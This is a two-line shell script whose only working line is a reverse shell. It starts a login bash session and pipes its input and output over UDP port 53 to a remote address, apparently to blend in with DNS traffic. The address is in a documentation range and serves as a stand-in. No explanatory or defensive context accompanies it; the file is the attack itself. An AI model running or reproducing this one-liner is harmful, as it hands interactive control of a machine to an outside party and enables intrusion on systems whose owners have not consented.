#!/bin/sh
/bin/bash -l > /dev/udp/192.0.2.10/53 0<&1 2>&1
